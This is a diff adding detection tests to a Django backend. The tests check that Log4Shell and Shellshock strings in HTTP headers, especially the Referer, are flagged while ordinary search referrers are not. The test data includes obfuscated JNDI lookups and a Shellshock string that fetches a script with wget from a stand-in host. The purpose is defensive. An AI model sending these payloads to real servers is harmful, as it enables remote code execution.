@@ -15,7 +15,8 @@ from rest_framework.test import APIClient
 
 from nexus_backend.tracking import flusher
 from nexus_backend.tracking.detection.parsers import parse_line
-from nexus_backend.tracking.detection.payloads import payload_family, target_path
+from nexus_backend.tracking.detection.payloads import header_payload, payload_family, target_path
+from nexus_backend.tracking.detection.replay import replay_file
 from nexus_backend.tracking.detection.services import detect_window
 from nexus_backend.tracking.models import RequestLog
 from nexus_backend.tracking.recorder import RECORDER
@@ -130,3 +131,65 @@ def test_the_request_log_keeps_a_payload_and_the_hourly_task_flags_it():
     now = timezone.now()
     result = detect_window(start=now - timedelta(hours=1), end=now + timedelta(minutes=1), auto_block=False)
     assert result.flagged_ips == ["203.0.113.8"]
+
+
+# What scanners spray into every header, the Referer included (CRS 944150, 932170; Zeek's shellshock signature),
+# against what browsers and search engines put there.
+HEADER_PAYLOADS = [
+    ("java", "${jndi:ldap://198.51.100.3:1389/Exploit}"),
+    ("java", "${${lower:j}ndi:${lower:l}dap://x.example/a}"),
+    ("java", "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/b}"),
+    ("java", "https://example.org/%24%7Bjndi:dns://x.example/c%7D"),
+    ("shell", "() { :; }; echo; /bin/bash -c 'wget http://198.51.100.3/x.sh'"),
+    ("shell", "() { _; } >_[$($())] { echo hi; }"),
+    ("shell", "%28%29%20%7B%20%3A%3B%20%7D%3B%20%2Fbin%2Fid"),
+]
+HEADER_BENIGN = [
+    "https://www.google.com/",
+    "https://duckduckgo.com/?q=javascript+function%28%29+%7B+%7D",
+    "https://stackoverflow.com/questions/1/what-does-function-()-{-}-mean",
+    "https://example.org/docs/${version}/intro",  # a template left unrendered in a link: no lookup
+    "https://example.org/search?q=%24%7Bjava.home%7D",
+    "android-app://com.google.android.gm/",
+]
+
+
+@pytest.mark.parametrize(("family", "value"), HEADER_PAYLOADS)
+def test_header_payloads_are_recognised(family, value):
+    assert header_payload(value) == family
+
+
+@pytest.mark.parametrize("value", HEADER_BENIGN)
+def test_referrers_of_people_are_not_header_payloads(value):
+    assert header_payload(value) == ""
+
+
+@pytest.mark.django_db
+def test_a_payload_in_the_referer_alone_is_flagged_by_the_replay_and_the_hourly_task(tmp_path):
+    """A Log4Shell spray that forges a browser and puts ``${jndi:...}`` only in the Referer; beside it, a reader
+    whose search referrer carries "function() {". The replay and the hourly task flag the first, not the second."""
+    agent = (
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36"
+    )
+    spray, reader = "203.0.113.44", "198.51.100.45"
+    jndi = "${jndi:ldap://198.51.100.3:1389/a}"
+    search = "https://duckduckgo.com/?q=function%28%29%20%7B%20%7D"
+    now = timezone.now().replace(microsecond=0) - timedelta(minutes=10)
+    stamp = now.strftime("%d/%b/%Y:%H:%M:%S +0000")
+    log = tmp_path / "access.log"
+    log.write_text(
+        f'{spray} - - [{stamp}] "GET / HTTP/1.1" 200 512 "{jndi}" "{agent}"\n'
+        f'{reader} - - [{stamp}] "GET / HTTP/1.1" 200 512 "{search}" "{agent}"\n'
+    )
+    result = replay_file(log)
+    assert list(result.flagged) == [spray]
+    assert result.flagged[spray].rules == ["payload"]
+    assert any(jndi in reason for reason in result.flagged[spray].reasons)  # the evidence shows the request
+
+    for ip, referrer in ((spray, jndi), (reader, search)):
+        APIClient().get("/api/polls/", REMOTE_ADDR=ip, HTTP_USER_AGENT=agent, HTTP_REFERER=referrer)
+    RECORDER.flush_buffer()
+    flusher.flush()
+    found = detect_window(start=timezone.now() - timedelta(hours=1), end=timezone.now() + timedelta(minutes=1),
+                          auto_block=False)  # fmt: skip
+    assert found.flagged_ips == [spray]
